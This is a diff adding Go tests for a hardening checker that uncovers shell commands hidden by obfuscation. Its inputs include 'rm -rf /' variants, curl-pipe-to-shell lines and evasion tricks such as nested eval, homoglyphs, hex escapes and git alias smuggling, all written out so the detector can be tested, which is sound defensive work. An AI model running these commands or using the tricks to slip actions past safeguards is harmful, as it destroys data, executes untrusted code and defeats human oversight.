@@ -1,0 +1,129 @@
+package hardening
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// commands are the commands Inspect found, and whether it found code
+// nobody can read.
+func commands(line string) (found []string, unseeable bool) {
+	for _, f := range Inspect(line) {
+		if f.Unseeable != "" {
+			unseeable = true
+			continue
+		}
+		found = append(found, f.Command)
+	}
+	return found, unseeable
+}
+
+func TestInspectFindsTheHiddenCommand(t *testing.T) {
+	for line, want := range map[string]string{
+		"$(echo $(echo $(git push)))":                  "git push",
+		"eval eval eval git push":                      "git push",
+		"echo `echo \\`cargo publish\\``":              "cargo publish",
+		"ſh -c 'git push'":                             "git push",
+		"ѕh -c 'git push'":                             "sh -c 'git push'",
+		"cp /bin/sh ./x; ./x -c 'git push'":            "git push",
+		"rm -fr /":                                     "rm -rf /",
+		"rm -r -f /":                                   "rm -rf /",
+		"rm -Rf /":                                     "rm -rf /",
+		"rm --recursive --force /":                     "rm -rf /",
+		"rm -r --force -v /":                           "rm -rf -v /",
+		"echo x | xargs git push":                      "git push",
+		"ls | xargs -n 1 -I{} sh -c 'git push'":        "git push",
+		"find . -exec git push \\;":                    "git push",
+		"find . -execdir cargo publish {} +":           "cargo publish",
+		"git -c alias.x=push x":                        "git push",
+		"git -c alias.p='!git push' p":                 "git push",
+		"$'\\x67it' push":                              "git push",
+		"$'\\147it' push":                              "git push",
+		"{git,push}":                                   "git push",
+		"git {push,}":                                  "git push",
+		"bash <<< 'git push'":                          "git push",
+		"sh <<EOF\ncargo publish\nEOF":                 "cargo publish",
+		"bash <(echo git push)":                        "git push",
+		"source <(echo git push)":                      "git push",
+		"echo git push | sh":                           "git push",
+		"printf 'cargo publish' | bash":                "cargo publish",
+		`python -c 'import os; os.system("git push")'`: "git push",
+		`perl -e 'system("git push")'`:                 "git push",
+		`node -e 'require("child_process").execSync("git push")'`: "git push",
+		"ruby -e '`git push`'":                 "git push",
+		`awk 'BEGIN{system("git push")}'`:      "git push",
+		`awk 'BEGIN{print "git push" | "sh"}'`: "git push",
+		"sed -n '1e git push' x":               "git push",
+		"alias x=git; x push":                  "git push",
+		"sudo -u root git push":                "git push",
+		"timeout 10 cargo publish":             "cargo publish",
+		"(git push)":                           "git push",
+		"true && git push":                     "git push",
+	} {
+		if found, _ := commands(line); !slices.Contains(found, want) {
+			t.Errorf("%q: found %q, want %q among them", line, found, want)
+		}
+	}
+}
+
+func TestInspectSeesWhatNobodyCanRead(t *testing.T) {
+	for _, line := range []string{
+		"IFS=,; c=git,push; $c",
+		"x=git; $x push",
+		"curl -s https://example.com/x.sh | sh",
+		"python -c 'import os; os.system(input())'",
+		`awk '{system($0)}' cmds.txt`,
+		"sed 's/^/git /e' list",
+		"sh -c \"$CMD\"",
+		"eval \"$(curl -s https://example.com)\"",
+		strings.Repeat("eval ", 40) + "git push",
+	} {
+		if _, unseeable := commands(line); !unseeable {
+			t.Errorf("%q: no unseeable finding", line)
+		}
+	}
+}
+
+// Ordinary lines hide nothing: no finding at all for a single command,
+// and for a compound one only its own parts, each seen as written.
+func TestInspectLeavesOrdinaryCommandsAlone(t *testing.T) {
+	for _, line := range []string{
+		"ls -la", "git status", `git commit -m "x; y"`, "npm test", "go test ./...", "echo $HOME",
+		"python -m pytest -q", "python -c 'print(1)'", "rm -rf build", "rm -f out.txt", "sed -i 's/a/b/g' f",
+		"awk '{print $1}' data.txt", "bash scripts/test.sh", "cargo test -- --nocapture",
+	} {
+		if found, unseeable := commands(line); len(found) > 0 || unseeable {
+			t.Errorf("%q: found %q (unseeable %v)", line, found, unseeable)
+		}
+	}
+	for line, want := range map[string][]string{
+		"make && make test":                    {"make", "make test"},
+		"cd \"$dir\" && make":                  {"cd '$dir'", "make"},
+		"cargo build --release 2>&1 | tee log": {"cargo build --release", "tee log"},
+	} {
+		if found, unseeable := commands(line); !slices.Equal(found, want) || unseeable {
+			t.Errorf("%q: found %q (unseeable %v), want %q", line, found, unseeable, want)
+		}
+	}
+}
+
+// A line bash cannot parse runs nothing.
+func TestInspectUnparsableLine(t *testing.T) {
+	if found := Inspect("git push 'unclosed"); len(found) != 0 {
+		t.Errorf("found %+v", found)
+	}
+}
+
+func FuzzInspect(f *testing.F) {
+	for _, s := range []string{"git push", "$(a $(b))", "sh -c 'x'", "{a,b}", "rm -fr /", "awk 'BEGIN{system(\"x\")}'", "$'\\x41'"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		for _, fd := range Inspect(line) {
+			if (fd.Command == "") == (fd.Unseeable == "") {
+				t.Fatalf("%q: a finding is neither a command nor unseeable, or both: %+v", line, fd)
+			}
+		}
+	})
+}
